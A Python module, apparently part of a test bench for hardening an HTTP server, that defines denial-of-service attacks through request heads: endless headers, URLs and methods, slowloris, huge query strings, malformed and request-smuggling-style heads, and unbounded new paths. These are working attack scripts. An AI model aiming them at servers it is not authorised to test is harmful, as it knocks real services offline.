"""Attacks by the heads of requests: endless, slow or invalid ones."""

from itertools import cycle, repeat

from qualms.bench.attacks.definition import CHUNK, Script, Wait, attack, head

_INVALID = (
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n",
    b"GET  / HTTP/1.1\r\n\r\n",
    b"GET / HTTP/9.9\r\nHost: a\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost : a\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: a\r\n folded: b\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: a\r\nb\x00: c\r\n\r\n",
    b"POST /predict HTTP/1.1\r\nHost: a\r\nContent-Length: -1\r\n\r\n",
    b"POST /predict HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello",
    b"POST /predict HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    b"POST /predict HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\n",
)
_invalid = cycle(_INVALID)


@attack("endless-header-value", "one header whose value never ends", connections=4)
def endless_header_value(_: bytes) -> Script:
    """The value is never complete, so a server that waits for its end keeps all of it."""
    yield b"GET /livez HTTP/1.1\r\nHost: a\r\nx: "
    yield from repeat(b"v" * CHUNK)


@attack("endless-header-name", "one header whose name never ends", connections=4)
def endless_header_name(_: bytes) -> Script:
    """As with an endless value."""
    yield b"GET /livez HTTP/1.1\r\nHost: a\r\n"
    yield from repeat(b"n" * CHUNK)


@attack("endless-headers", "headers `a: b` that never end", connections=4)
def endless_headers(_: bytes) -> Script:
    """Small headers need far more memory as objects than as bytes."""
    yield b"GET /livez HTTP/1.1\r\nHost: a\r\n"
    yield from repeat(b"a: b\r\n" * (CHUNK // 6))


@attack("endless-url", "a URL that never ends", connections=4)
def endless_url(_: bytes) -> Script:
    """The request line is never complete."""
    yield b"GET /"
    yield from repeat(b"u" * CHUNK)


@attack("endless-method", "a method that never ends", connections=4)
def endless_method(_: bytes) -> Script:
    """Parsers know the methods, so that the first wrong byte should end it."""
    yield from repeat(b"M" * CHUNK)


@attack("endless-blank-lines", "blank lines before a request that never comes", connections=4)
def endless_blank_lines(_: bytes) -> Script:
    """HTTP lets servers skip blank lines before a request."""
    yield from repeat(b"\r\n" * (CHUNK // 2))


@attack("long-queries", "requests with 15,000 query parameters", connections=4)
def long_queries(_: bytes) -> Script:
    """Each parameter is an object once it is parsed."""
    yield head("POST /predict?" + "&".join(["a=b"] * 15_000), Content_Length=0)
    yield Wait.REPLY


@attack("slow-heads", "a byte of the head a second (slowloris)", connections=1000)
def slow_heads(_: bytes) -> Script:
    """Each byte may restart a timeout that is counted from the last byte."""
    for byte in head("GET /livez", X_Padding="p" * 10_000):
        yield bytes([byte])
        yield 1.0


@attack("invalid-requests", "invalid heads, each on a new connection", connections=16, pause=0.0)
def invalid_requests(_: bytes) -> Script:
    """A server may log or format each of them at length."""
    yield next(_invalid)
    yield Wait.REPLY


@attack("unknown-paths", "requests for ever new paths and methods, at full rate", connections=8)
def unknown_paths(_: bytes) -> Script:
    """Metrics or caches by path would grow without limit."""
    for number in range(10**9):
        yield head(f"{'GET' if number % 2 else 'PATCH'} /unknown/{number}", Content_Length=0)
        yield Wait.REPLY
